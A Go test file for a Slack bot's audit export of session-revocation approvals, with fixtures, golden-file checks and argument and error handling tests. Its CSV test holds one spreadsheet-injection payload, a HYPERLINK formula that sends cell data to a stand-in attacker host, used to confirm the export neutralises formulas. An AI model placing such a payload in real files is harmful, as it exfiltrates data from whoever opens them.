package app

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/revokebot/revokebot/approvals"
	"github.com/revokebot/revokebot/approvals/postgres"
	"github.com/revokebot/revokebot/approvals/postgres/pgtest"
	"github.com/revokebot/revokebot/approvals/sqlite"
	"github.com/revokebot/revokebot/bot/bottest"
)

var updateGolden = flag.Bool("update", false, "rewrite the golden files in testdata/ from the output")

// The requests of the export fixture; their IDs are fixed, unlike the
// Service's, so that the export (the chain hashes too) is the same at
// every run.
const (
	exportOutsideID = "0f0e0d0c-0000-4000-8000-000000000000"
	exportBulkID    = "1a2b3c4d-0000-4000-8000-000000000001"
	exportQuorumID  = "2b3c4d5e-0000-4000-8000-000000000002"
	exportDeniedID  = "3c4d5e6f-0000-4000-8000-000000000003"
	exportExpiredID = "4d5e6f70-0000-4000-8000-000000000004"
	exportLaterID   = "5e6f7081-0000-4000-8000-000000000005"
)

// When the fixture's requests were created.
var (
	exportOutsideAt = time.Date(2026, 10, 31, 23, 59, 59, 0, time.UTC)
	exportBulkAt    = time.Date(2026, 11, 2, 9, 0, 0, 250e6, time.UTC) // with milliseconds
	exportQuorumAt  = time.Date(2026, 11, 3, 14, 30, 0, 0, time.UTC)
	exportDeniedAt  = time.Date(2026, 11, 5, 8, 15, 0, 0, time.UTC)
	exportExpiredAt = time.Date(2026, 11, 9, 22, 0, 0, 0, time.UTC)
	exportLaterAt   = time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC)
)

// exportMessageTS is the ts of the approval message of a request created at
// at: posted a second later.
func exportMessageTS(at time.Time) string { return slackTS(at.Add(time.Second)) }

// exportFailure is a failed revocation's text as the Cloudflare client
// records it: the answer's JSON body quoted, with its ray ID.
const exportFailure = `cloudflare: POST /accounts/0123456789abcdef0123456789abcdef/access/organizations/revoke_user: 502 Bad Gateway: {"title":"Error 502: Bad gateway","status":502,"error_name":"bad_gateway","ray_id":"8e2f4c1a9b3d7e60"}`

// exportRevoked is a revocation's summary as the Cloudflare client writes it.
const exportRevoked = "Cloudflare revoked the sessions (success=true, result=true)"

// slackTS is the Slack message ts of a message posted at t.
func slackTS(t time.Time) string { return fmt.Sprintf("%d.%06d", t.Unix(), t.Nanosecond()/1000) }

// exportStore makes a SQLite database holding the export fixture (see
// fillExportStore), and returns its path.
func exportStore(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "revokebot.db")
	db, err := sqlite.Open(context.Background(), path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	fillExportStore(t, db)
	return path
}

// fillExportStore writes the export fixture into the empty store db,
// through the Store as the Service would write it: a bulk
// request (revoked and verified, revoked and unverified, failed), one that
// took two approvals (and a refused click after), one denied with a reason,
// one expired with one approval of two and no approval message, one created
// before November and one on 20 November.
func fillExportStore(t *testing.T, db approvals.Store) {
	t.Helper()
	ctx := context.Background()

	create := func(id string, at time.Time, required int, reason string, emails ...string) approvals.Request {
		t.Helper()
		r := approvals.Request{ID: id, Requester: "U01REQ", Reason: reason, Required: required,
			Channel: "CAPPROVE", CreatedAt: at, ExpiresAt: at.Add(30 * time.Minute), Options: approvals.Options{Devices: true}}
		for _, e := range emails {
			r.Targets = append(r.Targets, approvals.Target{Email: e, State: approvals.TargetWaiting})
		}
		e := approvals.Event{Kind: approvals.EventRequested, Request: r, Actor: r.Requester, At: at, Key: "cmd-" + id[:8]}
		if err := db.Create(ctx, r, e, 0); err != nil {
			t.Fatalf("Create %s: %v", id, err)
		}
		return r
	}
	posted := func(r approvals.Request) {
		t.Helper()
		if err := db.SetMessage(ctx, r.ID, r.Channel, exportMessageTS(r.CreatedAt)); err != nil {
			t.Fatal(err)
		}
	}
	update := func(id string, fn func(r *approvals.Request) approvals.Event) {
		t.Helper()
		if _, err := db.Update(ctx, id, func(cur approvals.Request) (approvals.Request, []approvals.Event, error) {
			next := cur.Clone()
			e := fn(&next)
			if next.State().Final() && next.FinishedAt.IsZero() {
				next.FinishedAt = e.At
			}
			return next, []approvals.Event{e}, nil
		}); err != nil {
			t.Fatalf("Update %s: %v", id, err)
		}
	}
	review := func(id, by string, d approvals.Decision, reason string, at time.Time, kind approvals.EventKind, detail string) {
		t.Helper()
		update(id, func(r *approvals.Request) approvals.Event {
			r.Reviews = append(r.Reviews, approvals.Review{By: by, Decision: d, Reason: reason, At: at})
			return approvals.Event{Kind: kind, Actor: by, At: at, Detail: detail, Key: "click-" + id[:8] + "-" + by}
		})
	}
	finish := func(id string, i int, ok bool, text string, at time.Time, check approvals.Check, detail string) {
		t.Helper()
		update(id, func(r *approvals.Request) approvals.Event {
			tg := &r.Targets[i]
			tg.State, tg.Outcome, tg.FinishedAt = approvals.TargetFailed, text, at
			kind := approvals.EventFailed
			if ok {
				tg.State, tg.Check, kind = approvals.TargetRevoked, check, approvals.EventRevoked
			}
			return approvals.Event{Kind: kind, Target: tg.Email, At: at, Detail: detail}
		})
	}

	// Before the period.
	posted(create(exportOutsideID, exportOutsideAt, 1, "test", "zoe@example.com"))

	// Bulk: three people, one approval; created at a time with milliseconds.
	at := exportBulkAt
	bulk := create(exportBulkID, at, 1, "laptop stolen at the airport", "alice@example.com", "bob@example.com", "carol@example.com")
	posted(bulk)
	review(bulk.ID, "U04APP", approvals.Approve, "", at.Add(2*time.Minute), approvals.EventApproved, "1 of 1")
	finish(bulk.ID, 0, true, exportRevoked, at.Add(2*time.Minute+5*time.Second),
		approvals.Check{State: approvals.CheckVerified, At: at.Add(2*time.Minute + 7*time.Second)}, exportRevoked+"; verified: no session left")
	finish(bulk.ID, 1, true, exportRevoked, at.Add(2*time.Minute+6*time.Second),
		approvals.Check{State: approvals.CheckPending, Remaining: 1, Until: at.Add(2*time.Minute + 16*time.Second), At: at.Add(2*time.Minute + 6*time.Second)},
		exportRevoked+"; 1 session still listed, verifying")
	finish(bulk.ID, 2, false, exportFailure, at.Add(2*time.Minute+8*time.Second), approvals.Check{},
		exportFailure+"; request done: 2 of 3 revoked, 1 failed")
	update(bulk.ID, func(r *approvals.Request) approvals.Event {
		r.Targets[1].Check = approvals.Check{State: approvals.CheckUnverified, Remaining: 1, Until: at.Add(2*time.Minute + 16*time.Second), At: at.Add(2*time.Minute + 16*time.Second)}
		return approvals.Event{Kind: approvals.EventUnverified, Target: "bob@example.com", At: at.Add(2*time.Minute + 16*time.Second), Detail: "1 session still listed after 10s"}
	})

	// Two approvals needed; a refused click after the revocation ends its chain.
	at = exportQuorumAt
	quorum := create(exportQuorumID, at, 2, `contractor offboarding <ends today> & badge "returned"`, "dave@example.com")
	posted(quorum)
	review(quorum.ID, "U04APP", approvals.Approve, "", at.Add(4*time.Minute), approvals.EventApproved, "1 of 2")
	review(quorum.ID, "U05APP", approvals.Approve, "", at.Add(9*time.Minute), approvals.EventApproved, "2 of 2")
	finish(quorum.ID, 0, true, exportRevoked, at.Add(9*time.Minute+2*time.Second),
		approvals.Check{State: approvals.CheckVerified, At: at.Add(9*time.Minute + 3*time.Second)}, exportRevoked+"; verified: no session left")
	if err := db.Append(ctx, approvals.Event{Kind: approvals.EventRefused, Request: approvals.Request{ID: quorum.ID}, Actor: "U07OUT",
		Detail: "the request is revoked already", At: at.Add(20 * time.Minute), Key: "click-late-U07OUT"}); err != nil {
		t.Fatal(err)
	}

	// Denied, with a reason that has a semicolon (escaped in the CSV).
	at = exportDeniedAt
	denied := create(exportDeniedID, at, 1, "suspicious login from a new country", "erin@example.com")
	posted(denied)
	review(denied.ID, "U04APP", approvals.Deny, `erin is on call; call her first \ she travels`, at.Add(3*time.Minute), approvals.EventDenied,
		`erin is on call; call her first \ she travels`)

	// Expired with one approval of two; its approval message was never posted.
	at = exportExpiredAt
	expired := create(exportExpiredID, at, 2, "", "frank@example.com")
	review(expired.ID, "U05APP", approvals.Approve, "", at.Add(10*time.Minute), approvals.EventApproved, "1 of 2")
	update(expired.ID, func(r *approvals.Request) approvals.Event {
		r.ExpiredAt = at.Add(30 * time.Minute)
		return approvals.Event{Kind: approvals.EventExpired, At: r.ExpiredAt, Detail: "1 of 2 approvals before 2026-11-09T22:30:00Z"}
	})

	// On the period's end (--until is exclusive); still pending.
	posted(create(exportLaterID, exportLaterAt, 1, "phishing", "gina@example.com"))
}

// exportEnv is a valid configuration pointing at the database at path and
// the fake Slack ws.
func exportEnv(path string, ws *bottest.Workspace) func(string) string {
	env := validEnv()
	env["SLACK_BOT_TOKEN"] = ws.BotToken()
	env["SLACK_API_URL"] = ws.APIURL()
	env["REVOKEBOT_DATABASE"] = path
	return getter(env)
}

// runExport runs audit export with args, and returns its stdout and stderr.
func runExport(t *testing.T, getenv func(string) string, args ...string) (stdout, stderr string, err error) {
	t.Helper()
	var out, errOut bytes.Buffer
	err = auditExport(context.Background(), args, getenv, &out, &errOut)
	return out.String(), errOut.String(), err
}

// golden compares got with testdata/name, or rewrites it with -update.
func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *updateGolden {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -run %s -update to write it)", err, t.Name())
	}
	if got != string(want) {
		t.Errorf("output differs from %s (if the change is intended, run go test -run %s -update):\n--- got\n%s--- want\n%s", path, t.Name(), got, want)
	}
}

func TestAuditExportGolden(t *testing.T) {
	t.Parallel()
	testAuditExportGolden(t, exportStore(t))
}

// The export reads PostgreSQL alike: the same fixture gives the same
// golden files, chain hashes included.
func TestAuditExportGoldenPostgres(t *testing.T) {
	t.Parallel()
	url := pgtest.Schema(t)
	db, err := postgres.Open(context.Background(), url)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	fillExportStore(t, db)
	testAuditExportGolden(t, url)
}

// testAuditExportGolden exports the fixture in the database path names
// (a file, or a PostgreSQL URL), and compares it with the golden files.
func testAuditExportGolden(t *testing.T, path string) {
	ws := bottest.New(t)
	env := exportEnv(path, ws)
	period := []string{"--since", "2026-11-01", "--until", "2026-11-20"}

	stdout, stderr, err := runExport(t, env, period...)
	if err != nil {
		t.Fatalf("export: %v\nstderr: %s", err, stderr)
	}
	golden(t, "audit-export.jsonl", stdout)
	if want := "revokebot audit export: 4 requests (6 targets) created from 2026-11-01T00:00:00Z to 2026-11-20T00:00:00Z\n"; stderr != want {
		t.Errorf("stderr %q, want %q", stderr, want)
	}
	// The request with no approval message is not asked for.
	if calls := ws.Calls("chat.getPermalink"); len(calls) != 3 {
		t.Errorf("%d chat.getPermalink calls, want 3 (bulk, quorum, denied)", len(calls))
	}

	// Every line is one object with the keys in order, and its chain is
	// the hash of the request's last event in the log.
	db, _, err := openDatabase(context.Background(), path)
	if err != nil {
		t.Fatal(err)
	}
	links, err := db.Chain(context.Background(), 0, -1)
	db.Close()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := approvals.VerifyChain("", links); err != nil {
		t.Fatal(err)
	}
	last := map[string]string{}
	for _, l := range links {
		last[l.Event.Request.ID] = l.Hash
	}
	lines := strings.Split(strings.TrimSuffix(stdout, "\n"), "\n")
	var ids []string
	for _, line := range lines {
		if keys := jsonKeys(t, line); strings.Join(keys, ",") != "request_id,state,requester,reason,created_at,targets,reviews,permalink,chain" {
			t.Errorf("keys %v", keys)
		}
		var r exportRequest
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatal(err)
		}
		ids = append(ids, r.RequestID)
		if r.Chain != last[r.RequestID] || len(r.Chain) != 64 {
			t.Errorf("%s: chain %q, want its last event's hash %q", r.RequestID, r.Chain, last[r.RequestID])
		}
	}
	if got, want := strings.Join(ids, " "), strings.Join([]string{exportBulkID, exportQuorumID, exportDeniedID, exportExpiredID}, " "); got != want {
		t.Errorf("requests %s, want %s (oldest first, in the period only)", got, want)
	}

	stdout, _, err = runExport(t, env, append(period, "--format", "csv")...)
	if err != nil {
		t.Fatal(err)
	}
	golden(t, "audit-export.csv", stdout)
	rows, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+6 || strings.Join(rows[0], ",") != strings.Join(auditExportColumns, ",") {
		t.Errorf("%d rows, header %v: want the header and one row per target (6)", len(rows), rows[0])
	}
}

// jsonKeys returns the keys of the JSON object line, in order.
func jsonKeys(t *testing.T, line string) []string {
	t.Helper()
	dec := json.NewDecoder(strings.NewReader(line))
	if tok, err := dec.Token(); err != nil || tok != json.Delim('{') {
		t.Fatalf("not an object: %s", line)
	}
	var keys []string
	for dec.More() {
		tok, err := dec.Token()
		if err != nil {
			t.Fatal(err)
		}
		keys = append(keys, tok.(string))
		var skip json.RawMessage
		if err := dec.Decode(&skip); err != nil {
			t.Fatal(err)
		}
	}
	return keys
}

// exportedIDs returns the request IDs of a JSON export, in order.
func exportedIDs(t *testing.T, stdout string) []string {
	t.Helper()
	var ids []string
	dec := json.NewDecoder(strings.NewReader(stdout))
	for dec.More() {
		var r exportRequest
		if err := dec.Decode(&r); err != nil {
			t.Fatal(err)
		}
		ids = append(ids, r.RequestID)
	}
	return ids
}

func TestAuditExportPeriodBounds(t *testing.T) {
	t.Parallel()
	path := exportStore(t)
	env := exportEnv(path, bottest.New(t))
	for _, tt := range []struct {
		name string
		args []string
		want []string
	}{
		// The bulk request was created at 09:00:00.250: --until is exclusive, to the millisecond.
		{"until excludes", []string{"--since", "2026-11-01", "--until", "2026-11-02T09:00:00.250Z"}, nil},
		{"until just after", []string{"--since", "2026-11-01", "--until", "2026-11-02T09:00:00.251Z"}, []string{exportBulkID}},
		{"since includes", []string{"--since", "2026-11-20", "--until", "2026-11-21"}, []string{exportLaterID}},
		{"since with an offset", []string{"--since", "2026-10-31T23:59:59Z", "--until", "2026-11-02T10:01:00+01:00"}, []string{exportOutsideID, exportBulkID}},
		{"until defaults to now", []string{"--since", "2026-11-09"}, []string{exportExpiredID, exportLaterID}},
	} {
		stdout, stderr, err := runExport(t, env, tt.args...)
		if err != nil {
			t.Errorf("%s: %v\n%s", tt.name, err, stderr)
			continue
		}
		if got := exportedIDs(t, stdout); strings.Join(got, " ") != strings.Join(tt.want, " ") {
			t.Errorf("%s: exported %v, want %v", tt.name, got, tt.want)
		}
	}
	// An empty period in CSV is the header alone.
	stdout, _, err := runExport(t, env, "--since", "2026-11-10", "--until", "2026-11-11", "--format", "CSV")
	if err != nil || stdout != strings.Join(auditExportColumns, ",")+"\n" {
		t.Errorf("empty CSV export: %q, %v", stdout, err)
	}
}

func TestAuditExportBadArguments(t *testing.T) {
	t.Parallel()
	// The configuration is never read: the arguments are checked first.
	none := func(string) string { return "" }
	for _, tt := range []struct {
		args []string
		want string
	}{
		{nil, "--since is required"},
		{[]string{"--until", "2026-11-20"}, "--since is required"},
		{[]string{"--since", "yesterday"}, `--since "yesterday": not a date: write YYYY-MM-DD`},
		{[]string{"--since", "2026-11-01", "--until", "2026-13-01"}, `--until "2026-13-01": not a date`},
		{[]string{"--since", "2026-11-01T09:00:00"}, `--since "2026-11-01T09:00:00": not a date`}, // no offset
		{[]string{"--since", "2026-11-20", "--until", "2026-11-01"}, "--since 2026-11-20T00:00:00Z is not before --until 2026-11-01T00:00:00Z"},
		{[]string{"--since", "2026-11-01", "--until", "2026-11-01"}, "is not before --until"},
		{[]string{"--since", "2026-11-01", "--format", "xml"}, `--format "xml": unknown format: use json (JSON Lines, the default) or csv`},
		{[]string{"--since", "2026-11-01", "november"}, `unexpected argument "november"`},
		{[]string{"--from", "2026-11-01"}, "flag provided but not defined: -from: the options are --since DATE, --until DATE and --format json|csv"},
		{[]string{"--since"}, "flag needs an argument: -since"},
	} {
		stdout, stderr, err := runExport(t, none, tt.args...)
		if err == nil || !strings.Contains(err.Error(), tt.want) || !strings.HasPrefix(err.Error(), "audit export: ") {
			t.Errorf("%q: error %v, want one containing %q", tt.args, err, tt.want)
		}
		if stdout != "" || !strings.HasPrefix(stderr, "Usage: revokebot audit export") {
			t.Errorf("%q: stdout %q, stderr %q: want nothing, and the usage", tt.args, stdout, stderr)
		}
	}
	stdout, _, err := runExport(t, none, "--help")
	if err != nil || !strings.HasPrefix(stdout, "Usage: revokebot audit export --since DATE") {
		t.Errorf("--help: %q, %v", stdout, err)
	}
}

func TestAuditExportConfiguration(t *testing.T) {
	t.Parallel()
	ws := bottest.New(t)
	// A database file that does not exist is not created.
	missing := filepath.Join(t.TempDir(), "nowhere.db")
	_, _, err := runExport(t, exportEnv(missing, ws), "--since", "2026-11-01")
	if err == nil || !strings.Contains(err.Error(), "REVOKEBOT_DATABASE: "+missing+" does not exist") {
		t.Errorf("missing database: %v", err)
	}
	if _, statErr := os.Stat(missing); !os.IsNotExist(statErr) {
		t.Errorf("the export created %s", missing)
	}
	// An invalid configuration names what to fix.
	_, _, err = runExport(t, func(string) string { return "" }, "--since", "2026-11-01")
	if err == nil || !strings.Contains(err.Error(), "SLACK_BOT_TOKEN:") {
		t.Errorf("empty environment: %v", err)
	}
}

func TestAuditExportPermalinkRefused(t *testing.T) {
	t.Parallel()
	path := exportStore(t)
	period := []string{"--since", "2026-11-01", "--until", "2026-11-20"}
	links := func(stdout string) []string {
		var out []string
		for _, line := range strings.Split(strings.TrimSpace(stdout), "\n") {
			var r exportRequest
			if err := json.Unmarshal([]byte(line), &r); err != nil {
				t.Fatal(err)
			}
			out = append(out, r.Permalink)
		}
		return out
	}
	link := func(ws *bottest.Workspace, created time.Time) string {
		return ws.Permalink("CAPPROVE", exportMessageTS(created))
	}

	// One message Slack does not find: that link alone is empty.
	ws := bottest.New(t)
	ws.Fail("chat.getPermalink", bottest.Failure{Error: "message_not_found"})
	stdout, stderr, err := runExport(t, exportEnv(path, ws), period...)
	if err != nil {
		t.Fatalf("one link refused failed the export: %v", err)
	}
	if got, want := links(stdout), []string{"", link(ws, exportQuorumAt), link(ws, exportDeniedAt), ""}; strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("links %q, want %q", got, want)
	}
	for _, want := range []string{"request " + exportBulkID + ": no link to its approval message 1793610001.250000 in CAPPROVE (Slack says message_not_found)",
		"; 1 without the link to their approval message (see above)"} {
		if !strings.Contains(stderr, want) {
			t.Errorf("stderr does not say %q:\n%s", want, stderr)
		}
	}

	// Rate limited once: the link comes on the next attempt.
	ws = bottest.New(t)
	ws.Fail("chat.getPermalink", bottest.Failure{RetryAfter: 1})
	stdout, _, err = runExport(t, exportEnv(path, ws), period...)
	if err != nil || links(stdout)[0] != link(ws, exportBulkAt) {
		t.Errorf("after a rate limit: %q, %v", links(stdout), err)
	}

	// Slack does not answer: it is asked once, and every link is empty.
	ws = bottest.New(t)
	ws.Fail("chat.getPermalink", bottest.Failure{Status: 503})
	stdout, stderr, err = runExport(t, exportEnv(path, ws), period...)
	if err != nil {
		t.Fatal(err)
	}
	if got := links(stdout); strings.Join(got, "") != "" {
		t.Errorf("links %q, want none", got)
	}
	if n := len(ws.Calls("chat.getPermalink")); n != 1 {
		t.Errorf("%d calls after Slack failed, want 1", n)
	}
	if !strings.Contains(stderr, "Slack is not asked again") || !strings.Contains(stderr, "3 without the link") {
		t.Errorf("stderr:\n%s", stderr)
	}
}

func TestAuditExportCFRay(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ text, want string }{
		{exportRevoked, ""},
		{exportFailure, "8e2f4c1a9b3d7e60"},
		{"cloudflare: POST /x: 520: upstream error (CF-Ray: 8e2f4c1a9b3d7e60-AMS)", "8e2f4c1a9b3d7e60-AMS"},
		{"cf-ray=8e2f4c1a9b3d7e60-fra", "8e2f4c1a9b3d7e60-fra"},
		{"cloudflare: POST /x: 502 Bad Gateway: <html> Cloudflare Ray ID: 8e2f4c1a9b3d7e60 • Your IP", "8e2f4c1a9b3d7e60"},
		{"ray_id 8e2f4c1a9b3d7e6", ""},    // 15 digits
		{"ray_id 8e2f4c1a9b3d7e6012", ""}, // 18 digits
		{"array id 8e2f4c1a9b3d7e60", ""}, // not the word
		{"8e2f4c1a9b3d7e60 alone", ""},    // no name
		{"Ray ID: 8E2F4C1A9B3D7E60", "8E2F4C1A9B3D7E60"},
	} {
		if got := cfRay(tt.text); got != tt.want {
			t.Errorf("cfRay(%q) = %q, want %q", tt.text, got, tt.want)
		}
	}
}

func TestAuditExportFlattenReviews(t *testing.T) {
	t.Parallel()
	got := flattenReviews([]exportReview{
		{Approver: "U04APP", Decision: "approve", At: "2026-11-02T09:03:00Z"},
		{Approver: "U05APP", Decision: "deny", Reason: `not her laptop; ask IT \ first`, At: "2026-11-02T09:06:00Z"},
	})
	if want := `U04APP:approve:2026-11-02T09:03:00Z;U05APP:deny:2026-11-02T09:06:00Z:not her laptop\; ask IT \\ first`; got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	if got := flattenReviews(nil); got != "" {
		t.Errorf("no reviews: %q", got)
	}
}

func TestAuditExportCSVFormulas(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	err := writeExportCSV(&b, []exportRequest{{RequestID: "r1", State: "denied", Requester: "U01REQ",
		Reason: `=HYPERLINK("https://evil.example/?"&A1,"open")`, CreatedAt: "2026-11-02T09:00:00Z",
		Targets: []exportTarget{{Email: "@alice@example.com", Outcome: "waiting", Detail: "-1 sessions"}},
		Reviews: []exportReview{{Approver: "U04APP", Decision: "deny", Reason: "=1+1", At: "2026-11-02T09:01:00Z"}}}})
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	row := rows[1]
	if row[3] != `'=HYPERLINK("https://evil.example/?"&A1,"open")` || row[5] != "'@alice@example.com" || row[7] != "'-1 sessions" ||
		row[10] != "U04APP:deny:2026-11-02T09:01:00Z:=1+1" || row[1] != "denied" {
		t.Errorf("row %q: want the values a spreadsheet would run as formulas after a '", row)
	}
}
